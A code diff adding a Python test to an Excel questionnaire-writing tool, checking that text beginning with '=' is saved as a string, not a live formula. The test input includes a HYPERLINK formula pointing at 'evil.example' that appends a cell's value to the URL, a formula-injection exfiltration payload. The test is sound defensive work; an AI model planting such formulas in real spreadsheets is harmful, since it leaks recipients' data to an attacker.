@@ -537,3 +537,24 @@ def test_header_cells_written_as_formulas_are_found_when_writing_too(tmp_path: P
     written = write_answered(path, [answer], tmp_path / "out.xlsx", ColumnSettings(), WRITTEN_AT)
     assert openpyxl.load_workbook(written).active["C2"].value == "Yes: MFA is required."
     assert answers_written(written, [answer], ColumnSettings()) == 1
+
+
+def test_a_text_that_opens_with_an_equals_sign_is_written_as_text_not_a_formula(
+    tmp_path: Path,
+) -> None:
+    """openpyxl makes a formula of any string that starts with '=': a document titled
+    '=HYPERLINK(...)' (its front-matter) put a live link, or any formula, into the
+    citations cell of the workbook sent to the vendor, and an answer whose prose
+    opens with '=' into the answer cell (found by an adversarial review)."""
+    source = vendor_workbook(tmp_path / "acme.xlsx")
+    book = openpyxl.load_workbook(source)
+    book["Security"]["E3"] = "Citations"
+    book.save(source)
+    title = '=HYPERLINK("http://evil.example/?"&B5,"Access Policy")'
+    answers = [_answer("AC.1", 5, "=1+1 is what the reviewer wrote.")]
+    written = write_answered(
+        source, answers, tmp_path / "a.xlsx", ColumnSettings(), WRITTEN_AT, {"policies/a.md": title}
+    )
+    sheet = openpyxl.load_workbook(written)["Security"]
+    assert (sheet["E5"].value, sheet["E5"].data_type) == (f"{title} (policies/a.md)", "s")
+    assert (sheet["C5"].value, sheet["C5"].data_type) == ("=1+1 is what the reviewer wrote.", "s")
